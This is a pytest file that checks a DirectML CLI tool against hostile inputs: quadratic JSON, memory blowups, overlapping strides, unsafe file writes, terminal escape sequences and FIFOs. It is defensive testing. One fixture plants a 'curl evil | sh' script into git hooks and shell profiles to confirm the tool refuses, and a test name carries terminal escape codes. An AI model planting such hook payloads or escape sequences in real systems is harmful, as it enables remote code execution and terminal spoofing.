"""Reliability, round four (issue 34): DxDispatch models, ONNX dispatchables, images, serialized graphs, readers,
signals and terminal output against small hostile inputs that hung, failed with an internal error or took
gigabytes.

Each test rebuilds the issue's input (scaled down where the ratio is what matters: this runs on 2 shared cores).
Hangs are caught by a subprocess's timeout, far above what the run takes now and far below what it took before
(a quadratic scan of a few megabytes takes hours). Memory is measured as the growth of a child's peak resident
memory (ru_maxrss of RUSAGE_CHILDREN, read by a small intermediate process, as tests/test_memory_bounds.py does)
over the same run on a tiny model.
"""

from __future__ import annotations

import contextlib
import itertools
import json
import math
import os
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
from click.testing import CliRunner
from hypothesis import given, settings, strategies as st

from dmlcli.cli import cli
from dmlcli.dispatch import load_model
from dmlcli.errors import InputError

from test_dispatch_untrusted import assert_one_line_error, buffer, files_under, invoke, write_model

HANG_LIMIT = 120  # seconds: each run below takes well under a few seconds


def dmlcli_process(*args, cwd, timeout=HANG_LIMIT, stdin=None):
    """dmlcli in a process of its own; a hang fails the test (TimeoutExpired) rather than the suite."""
    env = dict(os.environ, NO_COLOR="1")
    env.pop("DMLCLI_DEBUG", None)
    return subprocess.run([sys.executable, "-m", "dmlcli", *[str(a) for a in args]], capture_output=True, text=True,
                          cwd=cwd, timeout=timeout, env=env, stdin=stdin)


MEASURE = """
import resource, subprocess, sys
done = subprocess.run([sys.executable, "-m", "dmlcli", *sys.argv[1:]], stdout=subprocess.DEVNULL,
                      stderr=subprocess.PIPE, text=True)
print(done.returncode, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss * 1024, done.stderr.replace("\\n", " "))
"""


def peak_bytes(args, cwd: Path) -> tuple[int, int, str]:
    """(exit code, peak resident bytes, stderr) of `dmlcli ARGS`, measured from a small intermediate process (a
    child's ru_maxrss starts from what its parent had when it forked)."""
    env = dict(os.environ, NO_COLOR="1")
    env.pop("DMLCLI_DEBUG", None)
    done = subprocess.run([sys.executable, "-c", MEASURE, *[str(a) for a in args]], cwd=cwd, env=env,
                          capture_output=True, text=True, timeout=HANG_LIMIT)
    code, peak, stderr = done.stdout.split(" ", 2)
    return int(code), int(peak), stderr


MiB = 1 << 20


# ---------------------------------------------------------------- the model reader: time linear in the size


# Each about 4 MB: scanning them again from each later character (as before) takes hours.
HOSTILE_TEXTS = {
    "a /* comment left open, over and over": b"/* " * 1_400_000,
    "escaped quotes in a string left open": b'"' + b'\\"' * 2_000_000,
    "a string left open on a backslash": b'"\\' * 2_000_000,
    "four million comments": b"/**/" * 1_000_000,
    "line comments": b"//\n" * 1_400_000,
    "trailing commas": b"[1,]," * 800_000,
    "members whose arrays are not numbers": b'{"a":[{' * 600_000,
}


@pytest.mark.parametrize("name", sorted(HOSTILE_TEXTS))
def test_a_crafted_model_is_read_in_time_linear_in_its_size(name, tmp_path):
    model = tmp_path / "model.json"
    model.write_bytes(HOSTILE_TEXTS[name])
    result = dmlcli_process("dispatch", model, cwd=tmp_path)
    assert_one_line_error(result)
    assert "malformed JSON at line" in result.stderr or "is never closed" in result.stderr


def reference_strict_json(text: str) -> str | None:
    """An independent reading of JSON with comments and trailing commas, one character at a time: the text with
    comments blanked (line breaks kept) and trailing commas made spaces; None where a /* comment stays open."""
    out, i, state = list(text), 0, "code"
    while i < len(text):
        c, pair = text[i], text[i:i + 2]
        if state == "code":
            if c == '"':
                state = "string"
            elif pair == "//":
                state = "line"
                continue
            elif pair == "/*":
                state = "block"
                out[i] = out[i + 1] = " "
                i += 2
                continue
        elif state == "string":
            if c == "\\":
                i += 2
                continue
            if c == '"':
                state = "code"
        elif state == "line":
            if c == "\n":
                state = "code"
            else:
                out[i] = " "
        elif state == "block":
            if pair == "*/":
                out[i] = out[i + 1] = " "
                state = "code"
                i += 2
                continue
            if c not in "\r\n":
                out[i] = " "
        i += 1
    if state == "block":
        return None
    blanked, state = "".join(out), "code"
    final = list(blanked)
    i = 0
    while i < len(blanked):
        c = blanked[i]
        if state == "string":
            if c == "\\":
                i += 2
                continue
            if c == '"':
                state = "code"
        elif c == '"':
            state = "string"
        elif c == "," and blanked[i + 1:].lstrip(" \t\r\n")[:1] in ("]", "}"):
            final[i] = " "
        i += 1
    return "".join(final)


PIECES = ['"', "\\", "/", "*", "\n", ",", " ", "]", "}", "[", "{", "1", ":", "/*", "*/", "//", ", ]", "é", '"a"',
          "[1, 2]", "\t"]


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=40))
def test_comments_and_trailing_commas_are_read_as_a_character_by_character_reader_reads_them(pieces):
    from dmlcli.dispatch.jsonc import strict_json

    text = "".join(pieces)
    expected = reference_strict_json(text)
    try:
        found = strict_json(text.encode("utf-8")).decode("utf-8")
    except InputError as error:
        assert expected is None and "is never closed" in str(error)
        return
    assert expected is not None
    # The same JSON, byte for byte but for the width of a multibyte character inside a comment.
    assert found.replace(" ", "") == expected.replace(" ", "")
    assert found.count("\n") == expected.count("\n")


def test_an_open_comment_is_refused_naming_where_it_starts(tmp_path):
    model = tmp_path / "model.json"
    model.write_text('{"resources": {}, /* fine */ "dispatchables": {},\n "commands": [] // fine\n /* open')
    result = invoke("dispatch", model)
    assert_one_line_error(result)
    assert "the /* comment at line 3 column 2 is never closed" in result.stderr


def numbers_model(folder: Path, count: int, name="model.json") -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_text('{"resources": {"A": {"initialValuesDataType": "FLOAT32", "initialValues": [%s]}}, '
                    '"dispatchables": {}, "commands": []}' % ",".join(["1.5"] * count))
    return path


def test_a_model_of_numbers_takes_about_its_text_and_its_buffer_in_memory(tmp_path):
    # The 60 MB model took 1.8 GB (30 bytes a byte of text) and 30 s; scaled to 12 MB of text for a 12 MB
    # buffer (its initial values, then the buffer made from them), the peak now grows by about the text and the
    # buffer twice (before: 170 MB).
    count = 3_000_000
    model = numbers_model(tmp_path, count)
    text = model.stat().st_size
    code, peak, stderr = peak_bytes(["dispatch", model], tmp_path)
    assert code == 0, stderr
    code, small, stderr = peak_bytes(["dispatch", numbers_model(tmp_path, 100, name="small.json")], tmp_path)
    assert code == 0, stderr
    assert peak - small < text + 2 * (4 * count) + 16 * MiB, (peak - small) / MiB
    values = np.frombuffer(load_model(model).resources["A"].initial_values, np.float32)
    assert values.shape == (count,) and (values == 1.5).all()


@pytest.mark.parametrize("data_type,values,expected", [
    ("FLOAT32", ["1e39"] + ["1"] * 40, "initialValues[0]: 1e+39 is out of range for FLOAT32"),
    ("UINT8", ["1"] * 40 + ["256"], "initialValues[40]: 256 is out of range for UINT8"),
    ("INT32", ["1"] * 40 + ["1.5"], "initialValues[40]: 1.5 is not an integer"),
    ("FLOAT64", ["1"] * 40 + ["1e400"], "initialValues[40]: 1E+400 is out of range for FLOAT64"),
    ("INT64", ["1"] * 40 + ["9" * 5000], "is out of range for INT64"),
    ("FLOAT32", ["1"] * 40 + ["1.2.3"], "malformed JSON at line 1 column"),
    ("FLOAT32", ["1"] * 40 + ["1 2"], "malformed JSON at line 1 column"),
])
def test_a_long_array_of_numbers_is_checked_as_a_short_one(tmp_path, data_type, values, expected):
    model = tmp_path / "model.json"
    model.write_text('{"resources": {"A": {"initialValuesDataType": "%s", "initialValues": [%s]}}, '
                     '"dispatchables": {}, "commands": []}' % (data_type, ", ".join(values)))
    result = invoke("dispatch", model)
    assert_one_line_error(result)
    assert expected in result.stderr and "resource 'A'" in result.stderr


@settings(max_examples=60, deadline=None)
@given(st.sampled_from(["FLOAT32", "FLOAT16", "FLOAT64", "INT8", "UINT16", "INT64", "UINT64"]),
       st.lists(st.one_of(st.integers(-2**70, 2**70), st.floats(allow_nan=False, allow_infinity=False)),
                min_size=1, max_size=300))
def test_a_long_array_reads_as_the_element_by_element_reader_reads_it(data_type, numbers):
    """The same values, or the same refusal, whether the array is kept as text (long) or parsed whole (short)."""
    import tempfile

    from dmlcli.dispatch.fields import element_values, parse_data_type_name
    from dmlcli.dispatch.jsonc import _parse_float, _parse_int

    text = ", ".join(json.dumps(number) for number in numbers)
    exact = json.loads("[" + text + "]", parse_int=_parse_int, parse_float=_parse_float)
    kind = parse_data_type_name(data_type, "t")
    try:
        expected = element_values(exact, kind, "v")
    except InputError as error:
        expected = "initialValues" + str(error).removeprefix("v")  # "[3]: ... is out of range for ..."
    with tempfile.TemporaryDirectory() as folder:
        model = Path(folder) / "model.json"
        model.write_text('{"resources": {"A": {"initialValuesDataType": "%s", "initialValues": [%s]}}, '
                         '"dispatchables": {}, "commands": []}' % (data_type, text + " " * 64))
        try:
            resource = load_model(model).resources["A"]
        except InputError as error:
            assert isinstance(expected, str) and str(error).endswith(expected), (str(error), expected)
            return
    assert not isinstance(expected, str), expected
    found = np.frombuffer(resource.initial_values, dtype=expected.dtype.newbyteorder("<"))
    assert found.tobytes() == expected.astype(expected.dtype.newbyteorder("<")).tobytes()


def test_a_long_array_elsewhere_than_initial_values_is_refused(tmp_path):
    desc = {"InputTensor": {"DataType": "UINT8", "Sizes": [1] * 100_000}, "OutputTensor": {"DataType": "UINT8",
                                                                                         "Sizes": [1]}}
    model = write_model(tmp_path, {"A": buffer("UINT8", [1])},
                        [{"type": "dispatch", "dispatchable": "id",
                          "bindings": {"InputTensor": "A", "OutputTensor": "A"}}],
                        {"id": {"type": "ELEMENT_WISE_IDENTITY", "desc": desc}})
    result = invoke("dispatch", model)
    assert_one_line_error(result)
    assert "'Sizes' holds an array of 100000 numbers" in result.stderr


# ---------------------------------------------------------------- overlaps decided by arithmetic


def offsets_of(sizes, strides) -> list[int]:
    return [sum(i * s for i, s in zip(index, strides)) for index in itertools.product(*[range(n) for n in sizes])]


views = st.integers(1, 4).flatmap(lambda rank: st.tuples(
    st.lists(st.integers(0, 5), min_size=rank, max_size=rank), st.lists(st.integers(0, 12), min_size=rank,
                                                                        max_size=rank)))


@settings(max_examples=800, deadline=None)
@given(views)
def test_overlaps_itself_agrees_with_listing_the_offsets(view):
    from dmlcli.io.overlap import overlaps_itself

    sizes, strides = view
    offsets = offsets_of(sizes, strides)
    assert overlaps_itself(sizes, strides) == (len(set(offsets)) != len(offsets))


@settings(max_examples=800, deadline=None)
@given(views, views, st.integers(0, 40), st.integers(0, 40), st.sampled_from([8, 16, 32, 64]),
       st.sampled_from([8, 16, 32, 64]))
def test_views_overlap_agrees_with_listing_the_bits(first, second, first_offset, second_offset, first_bits,
                                                    second_bits):
    from dmlcli.io.overlap import views_overlap

    def bits(offset, view, size):
        return {offset * 8 + element * size + bit for element in offsets_of(*view) for bit in range(size)}

    expected = bool(bits(first_offset, first, first_bits) & bits(second_offset, second, second_bits))
    found = views_overlap((first_offset * 8, *first, first_bits), (second_offset * 8, *second, second_bits))
    assert found == expected


def test_large_and_irregular_strides_are_decided_at_once():
    from dmlcli.io.overlap import overlaps_itself

    assert overlaps_itself((20_000_000, 3), (3, 2)) is False  # 3x = 2y has no solution with |y| < 3 but x = 0
    assert overlaps_itself((20_000_000, 3), (2, 1)) is True  # element (1, 0) and (0, 2)
    assert overlaps_itself((65536, 65536), (65537, 65535)) is False  # 2^32 elements, no fast path
    assert overlaps_itself((16,) * 8, (1, 3, 9, 27, 81, 243, 729, 2187)) is True  # base 3, digits up to 15


def collide_model(folder: Path, sizes, strides, out_bytes=16) -> Path:
    desc = {"InputTensor": {"DataType": "FLOAT32", "Sizes": sizes, "Strides": [0] * len(sizes)},
            "OutputTensor": {"DataType": "FLOAT32", "Sizes": sizes, "Strides": strides}}
    resources = {"A": buffer("FLOAT32", [1, 2, 3, 4]), "O": buffer("FLOAT32", [0], sizeInBytes=out_bytes)}
    return write_model(folder, resources,
                       [{"type": "dispatch", "dispatchable": "id",
                         "bindings": {"InputTensor": "A", "OutputTensor": "O"}}],
                       {"id": {"type": "ELEMENT_WISE_IDENTITY", "desc": desc}})


@pytest.mark.parametrize("strides,expected", [
    ([3, 2], "16 bytes are bound"),  # no two elements collide: refused for the buffer's size (75 s and 3.6 GB before)
    ([2, 1], "make several elements share one address"),
])
def test_output_strides_of_sixty_million_elements_are_checked_without_listing_them(tmp_path, strides, expected):
    code, peak, stderr = peak_bytes(["dispatch", collide_model(tmp_path, [20_000_000, 3], strides)], tmp_path)
    assert code == 3 and expected in stderr, stderr
    assert peak < 200 * MiB, peak / MiB


def test_an_output_bound_over_its_input_at_an_offset_is_refused_by_arithmetic(tmp_path):
    # 64 MB buffer, the output 16 bytes past the input (before: 97 s and 3.8 GB, a sorted list of every byte).
    count = 16 << 20
    desc = {"InputTensor": {"DataType": "FLOAT32", "Sizes": [count - 4]},
            "OutputTensor": {"DataType": "FLOAT32", "Sizes": [count - 4]}}
    model = write_model(tmp_path, {"B": buffer("FLOAT32", {"valueCount": count, "value": 0})},
                        [{"type": "dispatch", "dispatchable": "id",
                          "bindings": {"InputTensor": "B", "OutputTensor": {"name": "B", "elementOffset": 4}}}],
                        {"id": {"type": "ELEMENT_WISE_IDENTITY", "desc": desc}})
    code, peak, stderr = peak_bytes(["dispatch", model], tmp_path)
    assert code == 3 and "OutputTensor partly overlaps InputTensor in buffer 'B'" in stderr, stderr
    code, small, _ = peak_bytes(["dispatch", collide_model(tmp_path / "small", [2], [1])], tmp_path)
    assert peak - small < 3 * 64 * MiB, (peak - small) / MiB  # the buffer's initial values and their making


def test_a_serialized_graph_output_with_colliding_strides_is_refused_at_once(tmp_path):
    from serialized_graphs import graph_file, tensor

    sizes = [1, 1, 20_000_000, 3]
    nodes = [{"name": "id", "op": "DML_OPERATOR_ELEMENT_WISE_IDENTITY", "inputs": ["x"], "outputs": ["y"],
              "in": [tensor(sizes, strides=[0, 0, 0, 0], total=16)], "out": [tensor(sizes, strides=[0, 0, 2, 1])]}]
    (tmp_path / "graph.bin").write_bytes(graph_file(nodes, ["x"], ["y"]))
    model = write_model(tmp_path, {"X": buffer("FLOAT32", [1, 2, 3, 4]), "Y": buffer("FLOAT32", [0, 0, 0, 0])},
                        [{"type": "dispatch", "dispatchable": "g", "bindings": {"x": "X", "y": "Y"}}],
                        {"g": {"type": "dmlSerializedGraph", "sourcePath": "graph.bin"}})
    code, peak, stderr = peak_bytes(["dispatch", model], tmp_path)
    assert code == 3 and "make several elements share one address" in stderr and "nodes[0]" in stderr, stderr
    assert peak < 200 * MiB, peak / MiB


# ---------------------------------------------------------------- internal errors that were input errors


@pytest.mark.parametrize("name", ["FLOAT32,FLOAT16", "(2,f4", "f4,(", "[('a', 'f4')]", "f4," * 1000, "(1,)f4"])
def test_a_data_type_spelled_as_a_numpy_structure_is_an_unknown_data_type(tmp_path, name):
    t = {"DataType": "FLOAT32", "Sizes": [4]}
    desc = {"InputTensor": t, "OutputTensor": t, "MinMaxDataType": name, "Min": {"Float32": 0},
            "Max": {"Float32": 1}}
    model = write_model(tmp_path, {"A": buffer("FLOAT32", [1, 2, 3, 4])},
                        [{"type": "dispatch", "dispatchable": "c", "bindings": {"InputTensor": "A", "OutputTensor": "A"}}],
                        {"c": {"type": "ELEMENT_WISE_CLIP1", "desc": desc}})
    result = invoke("dispatch", model)
    assert_one_line_error(result)
    assert "unknown data type" in result.stderr


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=30))
def test_any_text_is_a_data_type_or_an_input_error(text):
    from dmlcli.data_types import DataType, parse_data_type

    try:
        assert isinstance(parse_data_type(text), DataType)
    except InputError:
        pass


# Each as JSON text (opening, leaf, closing), nested `depth` times: json.dumps itself cannot write 2700 levels.
DEEP = {
    "a fused activation in a fused activation": (
        '{"Type": "ACTIVATION_ELU", "Desc": {"Alpha": 1.0, "InputTensor": null, "OutputTensor": ', "null", "}}"),
    "a fused activation's Alpha in lists": ("[", "1.0", "]"),
    "Desc in Desc": ('{"Type": "ACTIVATION_ELU", "Desc": ', '{"Type": "ACTIVATION_ELU", "Alpha": 1.0}', "}"),
    "objects in an object": ('{"x": ', "1", "}"),
}


@pytest.mark.parametrize("name", sorted(DEEP))
@pytest.mark.parametrize("depth", [300, 900])
def test_a_fused_activation_nested_deep_is_an_input_error(tmp_path, name, depth):
    opening, leaf, closing = DEEP[name]
    value = opening * depth + leaf + closing * depth
    if name == "a fused activation's Alpha in lists":
        value = '{"Type": "ACTIVATION_ELU", "Alpha": %s}' % value
    t = {"DataType": "FLOAT32", "Sizes": [4]}
    desc = {"ATensor": t, "BTensor": t, "OutputTensor": t, "FusedActivation": "DEEP"}
    model = write_model(tmp_path, {"A": buffer("FLOAT32", [1, 2, 3, 4])},
                        [{"type": "dispatch", "dispatchable": "add",
                          "bindings": {"ATensor": "A", "BTensor": "A", "OutputTensor": "A"}}],
                        {"add": {"type": "ELEMENT_WISE_ADD1", "desc": desc}})
    model.write_text(model.read_text().replace('"DEEP"', value))
    result = dmlcli_process("dispatch", model, cwd=tmp_path)
    assert_one_line_error(result)
    assert "FusedActivation" in result.stderr or "nested too deeply" in result.stderr


# ---------------------------------------------------------------- where a model writes


@pytest.fixture
def repository(tmp_path, monkeypatch):
    """A folder like a checkout: .git/hooks/pre-commit (executable) and a file of the user's; the current folder."""
    hooks = tmp_path / ".git" / "hooks"
    hooks.mkdir(parents=True)
    (hooks / "pre-commit").write_bytes(b"#!/bin/sh\nexit 0\n")
    (hooks / "pre-commit").chmod(0o755)
    (tmp_path / "notes.txt").write_bytes(b"mine")
    monkeypatch.chdir(tmp_path)
    return tmp_path


PLANTED = b"#!/bin/sh\ncurl evil | sh\n"


@pytest.mark.parametrize("target", [".git/hooks/pre-commit", ".git/hooks/post-checkout", "sub/.bashrc", ".profile",
                                    "link/pre-commit"])
def test_a_model_writes_no_hidden_file_or_folder(repository, target):
    (repository / "link").symlink_to(repository / ".git" / "hooks")
    model = write_model(repository / "models", {"A": buffer("UINT8", list(PLANTED))},
                        [{"type": "writeFile", "resource": "A", "targetPath": target}])
    before = {path: path.read_bytes() for path in repository.rglob("*") if path.is_file()}
    for extra in ([], ["--output-dir", repository]):
        result = invoke("dispatch", model, *extra)
        assert_one_line_error(result)
        assert "hidden" in result.stderr and "--allow-paths-outside" in result.stderr
    assert {path: path.read_bytes() for path in repository.rglob("*") if path.is_file()} == before
    assert os.access(repository / ".git" / "hooks" / "pre-commit", os.X_OK)


def test_without_output_dir_an_existing_file_is_never_replaced(repository):
    model = write_model(repository / "models", {"A": buffer("UINT8", list(PLANTED))},
                        [{"type": "writeFile", "resource": "A", "targetPath": "new.bin"},
                         {"type": "writeFile", "resource": "A", "targetPath": "notes.txt"}])
    result = invoke("dispatch", model)
    assert_one_line_error(result)
    assert "targetPath 'notes.txt'" in result.stderr and "exists" in result.stderr and "--output-dir" in result.stderr
    assert (repository / "notes.txt").read_bytes() == b"mine" and not (repository / "new.bin").exists()
    # Naming the folder is consent: the file is replaced (atomically), and the new one written.
    result = invoke("dispatch", model, "--output-dir", ".")
    assert result.exit_code == 0, result.output
    padded = PLANTED + bytes(-len(PLANTED) % 4)  # a raw writeFile writes the whole buffer, 4-byte padding included
    assert (repository / "notes.txt").read_bytes() == padded == (repository / "new.bin").read_bytes()
    # One run may write one name twice: the second replaces what the first wrote.
    twice = write_model(repository / "models", {"A": buffer("UINT8", [1]), "B": buffer("UINT8", [2])},
                        [{"type": "writeFile", "resource": "A", "targetPath": "twice.bin"},
                         {"type": "writeFile", "resource": "B", "targetPath": "twice.bin"}], name="twice.json")
    assert invoke("dispatch", twice).exit_code == 0
    assert (repository / "twice.bin").read_bytes() == bytes([2, 0, 0, 0])


def test_a_file_that_appears_while_the_model_runs_is_not_replaced(repository, monkeypatch):
    import dmlcli.dispatch.run as run

    model = write_model(repository / "models", {"A": buffer("UINT8", [1])},
                        [{"type": "writeFile", "resource": "A", "targetPath": "late.bin"}])
    staged = run.check_staged_writes

    def appear_first(writes):
        (repository / "late.bin").write_bytes(b"theirs")
        staged(writes)

    monkeypatch.setattr(run, "check_staged_writes", appear_first)
    result = invoke("dispatch", model)
    assert_one_line_error(result)
    assert "exists now" in result.stderr and (repository / "late.bin").read_bytes() == b"theirs"


@pytest.mark.parametrize("target", ["d" * 300 + "/a.npy", "sub/" + "n" * 300 + ".npy", "sub/" + "x/" * 2100 + "a.npy"])
def test_a_name_too_long_is_refused_before_any_folder_is_made(tmp_path, target):
    model = write_model(tmp_path / "models", {"A": buffer("UINT8", [1])},
                        [{"type": "writeFile", "resource": "A", "targetPath": target}])
    (tmp_path / "out").mkdir()
    result = invoke("dispatch", model, "--output-dir", tmp_path / "out")
    assert_one_line_error(result)
    assert "bytes long" in result.stderr
    assert files_under(tmp_path / "out") == set()


def test_a_file_where_a_later_write_needs_a_folder_is_refused_before_the_first_write(tmp_path):
    for commands in ([("a", "A"), ("a/b.npy", "A")], [("a/b.npy", "A"), ("a", "A")]):
        model = write_model(tmp_path / "models", {"A": buffer("UINT8", [1])},
                            [{"type": "writeFile", "resource": r, "targetPath": t} for t, r in commands])
        result = invoke("dispatch", model, "--output-dir", tmp_path / "out")
        assert_one_line_error(result)
        assert "to be a folder, but command" in result.stderr and "writes a file there" in result.stderr
        assert not (tmp_path / "out").exists()


def test_a_write_that_fails_takes_back_the_files_and_folders_written_before_it(tmp_path, monkeypatch):
    import dmlcli.io.atomic as atomic

    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "old.bin").write_bytes(b"old")
    model = write_model(tmp_path / "models", {"A": buffer("UINT8", [1])},
                        [{"type": "writeFile", "resource": "A", "targetPath": "new/deep/a.bin"},
                         {"type": "writeFile", "resource": "A", "targetPath": "b.bin"},
                         {"type": "writeFile", "resource": "A", "targetPath": "old.bin"}])
    real = atomic.write_atomically

    def full_disk(path, write):
        if path.name == "old.bin":
            raise InputError(f"output '{path}': write failed (No space left on device)")
        real(path, write)

    monkeypatch.setattr(atomic, "write_atomically", full_disk)
    result = invoke("dispatch", model, "--output-dir", tmp_path / "out")
    assert_one_line_error(result)
    assert files_under(tmp_path / "out") == {"old.bin"} and (tmp_path / "out" / "old.bin").read_bytes() == b"old"
    assert "written to" not in result.stdout


# ---------------------------------------------------------------- control characters from input are escaped

HOSTILE_NAME = "A\x1b]0;pwned\x07\x1b[2J\u202e"


def test_a_models_names_are_printed_with_their_control_characters_escaped(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    desc = {"InputTensor": {"DataType": "UINT8", "Sizes": [4]}, "OutputTensor": {"DataType": "UINT8", "Sizes": [4]}}
    model = write_model(tmp_path, {HOSTILE_NAME: buffer("UINT8", [1, 2, 3, 4])},
                        [{"type": "dispatch", "dispatchable": HOSTILE_NAME,
                          "bindings": {"InputTensor": HOSTILE_NAME, "OutputTensor": HOSTILE_NAME}},
                         {"type": "print", "resource": HOSTILE_NAME},
                         {"type": "writeFile", "resource": HOSTILE_NAME, "targetPath": "out\x1b[1m.bin"}],
                        {HOSTILE_NAME: {"type": "ELEMENT_WISE_BIT_NOT", "desc": desc}})
    result = dmlcli_process("dispatch", model, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    escaped = "A\\x1b]0;pwned\\x07\\x1b[2J\\u202e"
    lines = result.stdout.splitlines()
    assert lines[0].startswith(f"Dispatch '{escaped}': 1 iterations")
    assert lines[1] == f"Resource '{escaped}': 254, 253, 252, 251"
    assert lines[2] == f"Resource '{escaped}' written to '{tmp_path}/out\\x1b[1m.bin'"
    assert (tmp_path / "out\x1b[1m.bin").read_bytes() == bytes([254, 253, 252, 251])  # the file keeps its name
    for text in (result.stdout, result.stderr):
        assert not any(ch in text for ch in "\x1b\x07\u202e")
    # In a message too (the name echoed by an error), and in verbose prints.
    model = write_model(tmp_path, {"A": buffer("UINT8", [1])}, [{"type": "print", "resource": HOSTILE_NAME}])
    result = dmlcli_process("dispatch", model, cwd=tmp_path)
    assert_one_line_error(result)
    assert escaped in result.stderr and "\x1b" not in result.stderr


def test_a_case_files_operator_and_name_are_printed_escaped(tmp_path):
    case = {"op": "bit_xor\x1b[31m\x07", "case_name": "n\x1b[5m", "inputs": [[1], [2]],
            "expected": {"dtype": "uint8", "data": [3]}}
    (tmp_path / "evil\x1bcase.json").write_text(json.dumps(case))
    for flags in ([], ["-v"], ["-q"]):
        result = dmlcli_process("test", tmp_path, *flags, cwd=tmp_path)
        assert result.returncode == 1, result.stdout + result.stderr
        assert "bit_xor\\x1b[31m\\x07" in result.stdout or "evil\\x1bcase" in result.stdout
        assert "\x1b" not in result.stdout + result.stderr and "\x07" not in result.stdout + result.stderr


# ---------------------------------------------------------------- FIFOs and devices as paths


def wait_for_note(command: list, fifo: Path, cwd: Path, text: str) -> subprocess.CompletedProcess:
    """Run `command` with stderr on a pseudo-terminal; once it has said what it waits for, write `text` into the
    FIFO; (exit code, stdout, what the terminal showed)."""
    import select

    master, slave = os.openpty()
    env = dict(os.environ, NO_COLOR="1")
    process = subprocess.Popen([sys.executable, "-m", "dmlcli", *map(str, command)], stdin=subprocess.DEVNULL,
                               stdout=subprocess.PIPE, stderr=slave, cwd=cwd, env=env)
    os.close(slave)
    seen = b""
    try:
        while b"Ctrl-C" not in seen:
            ready, _, _ = select.select([master], [], [], HANG_LIMIT)
            assert ready, f"nothing said on the terminal: {seen!r}"
            seen += os.read(master, 4096)
        with open(fifo, "w") as writer:
            writer.write(text)
        stdout, _ = process.communicate(timeout=HANG_LIMIT)
    finally:
        if process.poll() is None:
            process.kill()
        os.close(master)
    return subprocess.CompletedProcess(command, process.returncode, stdout.decode(), seen.decode())


def test_a_fifo_input_with_no_writer_says_on_a_terminal_what_it_waits_for(tmp_path):
    fifo = tmp_path / "x.json"
    os.mkfifo(fifo)
    done = wait_for_note(["run", "bit_not", fifo, "--dtype", "uint8"], fifo, tmp_path, "[1, 2]")
    assert done.returncode == 0 and "254" in done.stdout, done
    assert f"waiting for input 1 '{fifo}': it is a FIFO (named pipe) and nothing has written into it" in done.stderr


def test_a_fifo_case_with_no_writer_says_on_a_terminal_what_it_waits_for(tmp_path):
    fifo = tmp_path / "case.json"
    os.mkfifo(fifo)
    case = {"op": "bit_not", "inputs": [{"dtype": "uint8", "data": [1]}], "expected": {"dtype": "uint8", "data": [254]}}
    done = wait_for_note(["test", fifo], fifo, tmp_path, json.dumps(case))
    assert done.returncode == 0 and "1 passed" in done.stdout, done
    assert f"waiting for the case '{fifo}'" in done.stderr


def test_a_fifo_read_in_a_pipeline_says_nothing(tmp_path):
    import threading

    fifo = tmp_path / "x.json"
    os.mkfifo(fifo)

    def write_later():
        with open(fifo, "w") as writer:
            writer.write("[1, 2]")

    writer = threading.Timer(1.0, write_later)
    writer.start()
    result = dmlcli_process("run", "bit_not", fifo, "--dtype", "uint8", cwd=tmp_path)
    writer.join()
    assert result.returncode == 0 and result.stderr == "", result.stderr


@pytest.mark.parametrize("path", ["/dev/zero", "/dev/null"])
def test_a_device_as_a_case_path_is_refused(tmp_path, path):
    result = dmlcli_process("test", path, cwd=tmp_path)
    assert_one_line_error(result)
    assert f"test path '{path}': is a character device" in result.stderr


# ---------------------------------------------------------------- ONNX dispatchables: memory, and graphs that never end

def onnx_modules():
    """(onnx, its helper, TensorProto), or the test skipped where the [onnx] extra is missing."""
    onnx = pytest.importorskip("onnx")
    pytest.importorskip("onnxruntime")
    return onnx, onnx.helper, onnx.TensorProto


def onnx_model(path: Path, nodes, inputs, outputs, initializers=()) -> str:
    onnx, helper, _ = onnx_modules()
    path.parent.mkdir(parents=True, exist_ok=True)
    graph = helper.make_graph(nodes, "g", inputs, outputs, initializer=list(initializers))
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    model.ir_version = 8
    onnx.save(model, path)
    return path.name


def constant_of_shape_model(folder: Path, count: int, write=True) -> Path:
    """The issue's 99-byte model: ConstantOfShape of a constant shape, into a deferred resource, written."""
    _, helper, TensorProto = onnx_modules()
    shape = helper.make_tensor("s", TensorProto.INT64, [1], [count])
    node = helper.make_node("ConstantOfShape", ["s"], ["y"], value=helper.make_tensor("v", TensorProto.FLOAT, [1], [1.0]))
    name = onnx_model(folder / "fill.onnx", [node], [], [helper.make_tensor_value_info("y", TensorProto.FLOAT, None)],
                      [shape])
    commands = [{"type": "dispatch", "dispatchable": "fill", "bindings": {"y": "Y"}}]
    if write:
        commands.append({"type": "writeFile", "resource": "Y", "targetPath": "y.npy"})
    return write_model(folder, {"Y": buffer("FLOAT32", "deferred")}, commands,
                       {"fill": {"type": "onnx", "sourcePath": name}})


def test_a_deferred_onnx_output_costs_about_its_size(tmp_path):
    # 1 GB reached 3.1 GB before (ONNX Runtime's folded constant, its output, a bytes copy); 200 MB here.
    count = 50_000_000
    code, peak, stderr = peak_bytes(["dispatch", constant_of_shape_model(tmp_path / "big", count), "--output-dir",
                                     tmp_path / "big"], tmp_path)
    assert code == 0, stderr
    code, small, stderr = peak_bytes(["dispatch", constant_of_shape_model(tmp_path / "small", 4), "--output-dir",
                                      tmp_path / "small"], tmp_path)
    assert code == 0, stderr
    assert peak - small < 1.5 * 4 * count, (peak - small) / MiB
    written = np.load(tmp_path / "big" / "y.npy", mmap_mode="r")
    assert written.shape == (count,) and written[0] == written[-1] == 1.0


LITTLE_MEMORY = ("import sys, dmlcli.dispatch.memory as memory; memory.available_memory = lambda: {limit}; "
                 "from dmlcli.cli import main; main(sys.argv[1:])")


def with_little_memory(limit: int, *args, cwd: Path) -> subprocess.CompletedProcess:
    env = dict(os.environ, NO_COLOR="1")
    env.pop("DMLCLI_DEBUG", None)
    return subprocess.run([sys.executable, "-c", LITTLE_MEMORY.format(limit=limit), *map(str, args)],
                          capture_output=True, text=True, cwd=cwd, timeout=HANG_LIMIT, env=env)


def test_an_onnx_output_whose_size_shape_inference_knows_is_counted_before_it_is_made(tmp_path):
    # 4 GB of FLOAT from 99 bytes: refused before ONNX Runtime runs (the run's room check counts it).
